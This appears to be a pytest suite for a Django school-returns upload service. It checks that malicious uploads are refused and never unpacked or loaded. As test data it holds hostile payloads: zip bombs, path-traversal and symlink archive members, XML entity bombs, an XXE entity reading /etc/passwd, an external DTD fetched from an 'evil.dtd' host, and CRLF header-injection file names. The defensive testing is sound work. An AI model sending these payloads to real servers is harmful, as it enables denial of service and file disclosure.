"""Files made to do harm: they are refused by either door, the sender reads why, and nothing is unpacked or loaded."""

from __future__ import annotations

import io
import stat
import zipfile
from pathlib import Path

import pytest
from django.conf import settings

from tests.web.files import return_of, zipped

pytestmark = pytest.mark.django_db(transaction=True)


def zip_with(name: str, content: bytes, *, mode: int = 0) -> bytes:
    """A zip with one member of any name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        member = zipfile.ZipInfo(name)
        member.compress_type, member.external_attr = zipfile.ZIP_DEFLATED, mode << 16
        archive.writestr(member, content)
    return out.getvalue()


def zip_in_zip(content: bytes, times: int) -> bytes:
    """A zip in a zip, so many times."""
    for number in range(times):
        content = zip_with(f"{number}.zip", content)
    return content


BOMBS = {
    "a zip whose file unpacks to a thousand times its size": (
        zip_with("swc.xml", b" " * 11_000_000), "as a zip bomb does",
    ),
    "a zip in a zip in a zip": (zip_in_zip(zip_with("swc.xml", return_of()), 3), "a zip in a zip in a zip"),
    "a zip that says less than it holds": (
        zip_with("swc.xml", b"x" * 5_000).replace((5_000).to_bytes(4, "little"), (50).to_bytes(4, "little")),
        "cannot be unpacked",
    ),
    "a zip with a file twice": (zipped(a__xml=return_of(), A__xml=return_of()), "is in the zip twice"),
}  # fmt: skip


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_zip_bomb_is_refused_before_it_unpacks(bomb: str, send, nothing_came_of_it) -> None:
    content, reason = BOMBS[bomb]
    assert reason in send(content, "returns.zip") and nothing_came_of_it()


OUTSIDE = (
    "../../outside.xml",
    "/outside.xml",
    "a/../../../outside.xml",
    "..\\outside.xml",
    "C:\\outside.xml",
)


@pytest.mark.parametrize("name", OUTSIDE)
def test_a_file_in_a_zip_does_not_get_out_of_its_folder(name: str, send, nothing_came_of_it) -> None:
    said = send(zip_with(name, return_of()), "returns.zip")
    assert "leads out of its folder" in said or "has an absolute name" in said
    assert nothing_came_of_it() and not written_outside()


def test_a_link_in_a_zip_is_not_followed(send, nothing_came_of_it) -> None:
    link = zip_with("swc.xml", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)
    assert "is a link, not a file" in send(link, "returns.zip") and nothing_came_of_it()


def written_outside() -> list[Path]:
    """Whatever a name that leads out of its folder would have left behind."""
    data = Path(settings.DATA)
    return [*data.parent.glob("*outside.xml"), *data.rglob("*outside.xml"), *Path("/").glob("*outside.xml")]


ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
XML_BOMBS = {
    "entities that grow a thousand million times": (
        f'<!DOCTYPE m [<!ENTITY e0 "ha">{ENTITIES}]><Message>&e9;</Message>'
    ),
    "an entity that reads a file of the server": (
        '<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><Message>&x;</Message>'
    ),
    "a document type that is fetched from outside": (
        '<!DOCTYPE m SYSTEM "http://198.51.100.7/evil.dtd"><Message/>'
    ),
}


@pytest.mark.parametrize("bomb", XML_BOMBS)
@pytest.mark.parametrize("name", ["swc.xml", "returns.zip"])
def test_an_xml_bomb_is_refused_for_its_document_type(bomb: str, name: str, send, nothing_came_of_it) -> None:
    content = XML_BOMBS[bomb].encode()
    said = send(zip_with("swc.xml", content) if name.endswith(".zip") else content, name)
    assert "document type" in said and "root:" not in said and nothing_came_of_it()


def test_xml_nested_a_hundred_thousand_deep_is_refused(send, nothing_came_of_it) -> None:
    said = send(b"<Message>" + b"<a>" * 100_000 + b"</a>" * 100_000 + b"</Message>")
    assert "swc.xml" in said and nothing_came_of_it()


NAMES = (
    "../../../outside.xml",
    "..\\outside.xml",
    "/outside.xml",
    "a\x00b.xml",
    "a\r\nSet-Cookie: x=y.xml",
    "..",
)


@pytest.mark.parametrize("name", NAMES)
def test_the_api_takes_no_path_for_the_name_of_a_file(name: str, by_api, nothing_came_of_it) -> None:
    said = by_api(return_of(), name.replace("\r", "%0D").replace("\n", "%0A").replace("\x00", "%00"))
    assert "has to be a plain one" in said and nothing_came_of_it() and not written_outside()


@pytest.mark.parametrize("name", NAMES[:3])
def test_of_a_path_sent_by_a_page_only_its_last_part_is_the_name(name: str, by_page, ashcombe) -> None:
    by_page(return_of(), name)
    assert ashcombe.versions.get().name == "outside.xml" and not written_outside()


def test_a_file_of_another_school_is_refused_with_both_names(send, nothing_came_of_it, returns) -> None:
    said = send(return_of(estab="2001"))
    assert "is the return of 999/2001" in said and "you send for Ashcombe School (999/4001)" in said
    assert nothing_came_of_it() and not returns["birchfield"].versions.exists()


def test_a_zip_with_the_file_of_another_school_loads_ones_own_alone(send, ashcombe, returns) -> None:
    said = send(zipped(own__xml=return_of(), others__xml=return_of(estab="2001")), "returns.zip")
    assert "is the return of 999/2001" in said
    assert ashcombe.versions.count() == 1 and not returns["birchfield"].versions.exists()
